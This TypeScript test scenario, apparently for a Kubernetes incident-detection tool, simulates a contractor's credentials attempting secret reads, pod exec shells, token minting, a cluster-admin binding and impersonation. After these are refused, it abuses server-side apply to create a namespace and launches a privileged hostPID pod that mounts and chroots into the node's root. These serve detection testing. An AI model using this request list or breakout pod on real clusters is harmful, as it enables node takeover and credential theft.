import { makeRole, roleSession } from '../actors.ts';
import type { Sent } from '../client.ts';
import { APPLY } from '../truth.ts';
import type { Incident } from './incident.ts';
import { clusterRole, clusterRoleBinding, NAMESPACES, namespace, subject } from './objects.ts';

const ROLE = 'contractor';
const NAME = 'contractor-sandbox';
const RBAC = '/apis/rbac.authorization.k8s.io/v1';

/**
 * The right names the one namespace, and so holds for a server-side apply alone: a POST has no name that the authorizer
 * could compare.
 */
const standing = [
  clusterRole(
    'contractor',
    { apiGroups: [''], resources: ['namespaces'], resourceNames: [NAME], verbs: ['get', 'create', 'patch'] },
    { apiGroups: [''], resources: ['pods'], verbs: ['create'] },
  ),
  clusterRoleBinding('contractors', 'contractor', subject.group('contractors')),
];

const PLACES = ['default', 'kube-system', 'flux-system', 'kube-public'];
const post = (path: string, body: unknown = {}): Sent => ({ method: 'POST', path, body });
const as = (user: string): Record<string, string> => ({ 'impersonate-user': user });
const apply = (name: string): Sent => ({
  method: 'PATCH',
  path: `${NAMESPACES}/${name}?fieldManager=contractor`,
  body: namespace(name),
  headers: { 'content-type': APPLY },
});

/** What is tried, by what it is called. */
const ATTEMPTS: readonly [string, Sent][] = [
  ...PLACES.flatMap((place): [string, Sent][] => [
    [`secrets in ${place}`, { path: `${NAMESPACES}/${place}/secrets` }],
    [`configmaps in ${place}`, { path: `${NAMESPACES}/${place}/configmaps` }],
    [`pods in ${place}`, { path: `${NAMESPACES}/${place}/pods` }],
    [`pods/exec in ${place}`, post(`${NAMESPACES}/${place}/pods/web/exec?command=sh`)],
    [`serviceaccounts/token in ${place}`, post(`${NAMESPACES}/${place}/serviceaccounts/default/token`, { spec: {} })],
    [`deployments in ${place}`, { path: `/apis/apps/v1/namespaces/${place}/deployments` }],
    [`rolebindings in ${place}`, { path: `${RBAC}/namespaces/${place}/rolebindings` }],
  ]),
  ['secrets in all namespaces', { path: '/api/v1/secrets' }],
  ['nodes', { path: '/api/v1/nodes' }],
  ['nodes/proxy', { path: '/api/v1/nodes/ip-10-0-1-11.ec2.internal/proxy/pods' }],
  ['clusterroles', { path: `${RBAC}/clusterroles` }],
  ['clusterrolebindings', { path: `${RBAC}/clusterrolebindings` }],
  [
    'creating clusterrolebindings',
    post(`${RBAC}/clusterrolebindings`, clusterRoleBinding('c', 'cluster-admin', subject.group('contractors'))),
  ],
  [
    'validatingwebhookconfigurations',
    { path: '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations' },
  ],
  ['impersonating system:admin', { path: NAMESPACES, headers: as('system:admin') }],
  ['namespaces', { path: NAMESPACES }],
  ['creating namespace tools', post(NAMESPACES, namespace('tools'))],
  ['creating namespace tmp', post(NAMESPACES, namespace('tmp'))],
  ['creating namespace contractor-sandbox', post(NAMESPACES, namespace(NAME))],
  ['applying namespace tools', apply('tools')],
];

const breakout = {
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'debug' },
  spec: {
    hostPID: true,
    containers: [
      {
        name: 'debug',
        image: 'docker.io/library/busybox:1.37',
        command: ['chroot', '/host', 'sh'],
        stdin: true,
        securityContext: { privileged: true },
        volumeMounts: [{ name: 'host', mountPath: '/host' }],
      },
    ],
    volumes: [{ name: 'host', hostPath: { path: '/' } }],
  },
};

export const deniedReconnaissance: Incident = {
  name: 'denied-reconnaissance',
  title: 'Dozens of refusals, then one success',
  story:
    "A contractor's credentials are used to try everything: secrets, shells, tokens, bindings, impersonation, namespaces. " +
    'All of it is refused, within seconds. Then one attempt succeeds: the right to create one certain namespace cannot be ' +
    'used by POST, but by server-side apply. In the new namespace, where no Pod Security level is set, a bare privileged ' +
    "pod opens the node's file system.",
  kind: 'hostile',
  expect: {
    first: { atLeast: 'HIGH' },
    second: { atLeast: 'CRITICAL' },
    told: ['first', 'second'],
    facts: {
      actor: 'arn:aws:iam::111122223333:role/contractor',
      right: 'contractor',
      binding: 'ClusterRoleBinding contractors',
      person: 'c.smith@partner.example',
    },
  },
  right: {
    kind: 'right',
    object: 'ClusterRoleBinding contractors',
    what: `The group contractors may create the namespace ${NAME} by name, which works by server-side apply only.`,
  },
  async run(scene) {
    const { twin } = scene;
    await makeRole(twin, ROLE, { groups: ['contractors'] });
    await scene.standing(...standing);
    const contractor = {
      ...(await roleSession(twin, ROLE, 'c.smith@partner.example')),
      from: '127.0.88.8',
      userAgent: 'curl/8.14.1',
    };
    await scene.begin();
    for (const [object, sent] of ATTEMPTS)
      await scene.act(contractor, `tries: ${object}`, sent, 403, {
        kind: 'refusal',
        object,
        what: `The role was refused: ${object}.`,
      });
    const { metadata, ...sent } = { ...apply(NAME), metadata: { name: NAME } };
    await scene.create(contractor, 'applies the one namespace that it may create', metadata, sent);
    await scene.look('first');

    await scene.act(contractor, 'opens the node', post(`${NAMESPACES}/${NAME}/pods`, breakout), 201, {
      kind: 'workload',
      object: `Pod ${NAME}/debug`,
      what: "A privileged pod without a controller, in the node's process namespace, with the node's root mounted.",
      signs: ['privileged', 'hostPID', 'hostPath /', 'bare pod'],
    });
    await scene.look('second');
  },
};
